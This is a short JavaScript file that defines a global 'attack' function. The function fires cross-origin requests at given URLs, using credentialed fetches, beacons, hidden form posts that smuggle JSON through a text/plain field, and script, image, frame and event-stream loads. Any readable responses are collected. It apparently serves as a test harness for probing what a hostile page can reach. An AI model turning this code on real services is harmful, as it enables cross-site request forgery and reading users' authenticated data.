// What a page can do to another origin: all of it at once. What a request gives away is returned, one line each; a
// frame or an image has no answer that could be read. `window.held` keeps the event streams open.
globalThis.attack = async (attempts, streams) => {
  const LIMIT_MS = 2500;
  const read = [];
  const limit = () => AbortSignal.timeout(LIMIT_MS);
  const tell = async (name, answer) => {
    const body = await answer.text();
    if (answer.ok) read.push(`${name}: ${body.slice(0, 200)}`);
  };
  const loaded = (node) =>
    new Promise((done) => {
      node.onload = node.onerror = done;
      setTimeout(done, LIMIT_MS);
    });
  const put = (node) => {
    document.documentElement.append(node);
    return loaded(node);
  };
  const make = (name, fields) => Object.assign(document.createElement(name), fields);
  const listen = (url) => {
    const source = new EventSource(url, { withCredentials: true });
    source.onmessage = (event) => read.push(`stream ${url}: ${event.data.slice(0, 200)}`);
    return source;
  };
  const submit = (url, text, enctype) => {
    const frame = make("iframe", { name: `frame${Math.random()}` });
    const form = make("form", { method: "POST", action: url, enctype, target: frame.name });
    form.append(make("input", { name: `${text.slice(0, -1)}, "x": "`, value: '"}' })); // JSON, once the two are joined
    document.documentElement.append(frame, form);
    const done = loaded(frame);
    form.submit();
    return done;
  };
  const changes = ({ method, url, body }) => {
    const text = JSON.stringify(body);
    const json = { method, body: text, headers: { "Content-Type": "application/json" }, credentials: "include" };
    const plain = { method: "POST", body: text, mode: "no-cors", credentials: "include" };
    navigator.sendBeacon(url, new Blob([text], { type: "text/plain" }));
    return [
      fetch(url, { ...json, signal: limit() }).then((answer) => tell(`fetch ${url}`, answer)),
      fetch(url, { ...plain, signal: limit() }),
      submit(url, text, "text/plain"),
      submit(url, text, "application/x-www-form-urlencoded"),
    ];
  };
  const reads = ({ url }) => [
    fetch(url, { credentials: "include", signal: limit() }).then((answer) => tell(`fetch ${url}`, answer)),
    fetch(url, { mode: "no-cors", credentials: "include", signal: limit() }).then((answer) =>
      tell(`no-cors ${url}`, answer),
    ),
    put(make("img", { src: url })),
    put(make("script", { src: url })),
    put(make("iframe", { src: url })),
  ];
  window.held = streams.map(listen);
  await Promise.allSettled(
    attempts.flatMap((one) => (one.method === "GET" ? reads(one) : [...changes(one), ...reads(one)])),
  );
  return read;
};
